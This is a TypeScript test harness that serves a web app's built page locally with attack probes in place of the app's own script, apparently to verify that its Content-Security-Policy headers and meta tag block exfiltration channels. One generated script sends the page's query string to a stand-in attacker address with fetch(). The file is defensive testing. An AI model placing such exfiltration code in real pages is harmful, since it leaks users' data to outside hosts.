import { copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileHandler } from '../../scripts/serve.mjs';
import { CHANNELS } from './channels.ts';

/** How the built page is protected in one run. */
export interface Protection {
  /** Headers of every response. */
  readonly headers: Readonly<Record<string, string>>;
  /** Whether the policy in the built page's `<meta>` stays. */
  readonly meta: boolean;
}

/** The built page behind the real server, with an attack in the place of the app's own script. */
export interface Target {
  readonly origin: string;
  /** Channels whose attack was started. */
  readonly ran: ReadonlySet<string>;
  close(): Promise<void>;
}

const root = path.resolve(import.meta.dirname, '../..');
const META_POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>/;
const APP_SCRIPT = /<script type="module"[^>]*><\/script>/;

/** A document and a worker of our own origin, asked for apart: as safe as the headers of their own response. */
const OTHER_SCRIPT = (attacker: string): string =>
  `fetch('${attacker}/x/' + location.search.slice(1), { mode: 'no-cors' }).catch(() => console.log('refused'));\n`;

export async function startTarget(
  protection: Protection,
  addresses: Readonly<Record<string, string>> & { readonly attacker: string },
): Promise<Target> {
  const folder = await mkdtemp(path.join(tmpdir(), 'hushlabel-armour-'));
  const armour = path.join(folder, 'armour');
  await mkdir(armour);
  const page = await builtPage(protection.meta);
  const data = Object.entries(addresses).map(([name, address]) => ` data-${name}="${address}"`);
  for (const name of CHANNELS) {
    const script = `<script src="/armour/probes.js" data-channel="${name}"${data.join('')} defer></script>`;
    await writeFile(path.join(armour, `${name}.html`), page.replace('<div id="root"></div>', `$&${script}`));
  }
  await copyFile(path.join(import.meta.dirname, 'probes.js'), path.join(armour, 'probes.js'));
  await writeFile(path.join(armour, 'other.html'), '<!doctype html><script src="/armour/other.js"></script>');
  await writeFile(path.join(armour, 'other.js'), OTHER_SCRIPT(addresses.attacker));

  const ran = new Set<string>();
  const answer = fileHandler(folder, protection.headers);
  const server = createServer((request, response) => {
    const name = /^\/armour\/ran\/([\w-]+)$/.exec(request.url ?? '')?.[1];
    if (name !== undefined) ran.add(name);
    void answer(request, response);
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  return {
    origin: `http://localhost:${String((server.address() as AddressInfo).port)}`,
    ran,
    async close() {
      server.closeAllConnections();
      await once(server.close(), 'close');
      await rm(folder, { recursive: true });
    },
  };
}

async function builtPage(meta: boolean): Promise<string> {
  const built = await readFile(path.join(root, 'dist/index.html'), 'utf8');
  for (const part of [META_POLICY, APP_SCRIPT, /<div id="root"><\/div>/]) {
    if (!part.test(built)) throw new Error(`the built page has no ${String(part)}`);
  }
  const page = built.replace(APP_SCRIPT, '');
  return meta ? page : page.replace(META_POLICY, '');
}
